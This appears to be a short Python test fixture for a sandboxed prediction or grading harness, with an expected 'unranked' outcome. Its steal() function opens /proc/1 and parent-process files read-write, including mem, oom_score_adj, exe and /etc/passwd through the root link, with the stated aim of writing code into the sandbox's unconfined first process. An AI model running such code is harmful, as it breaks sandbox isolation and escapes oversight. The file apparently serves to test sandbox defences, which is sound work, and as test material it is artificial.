"""Writes code into the sandbox's first process, which may be under no limits."""

# expected: unranked: not significantly better than chance
import os

from loot import guess


def steal():
    loot = []
    for name in ("mem", "task/1/mem", "clear_refs", "oom_score_adj", "comm", "exe", "root/etc/passwd", "cwd"):
        for entry in ("/proc/1", f"/proc/{os.getppid()}"):
            try:
                loot.append((entry, name, os.open(f"{entry}/{name}", os.O_RDWR)))
            except OSError:
                continue
    return loot


def predict(batch):
    return guess(batch, steal())
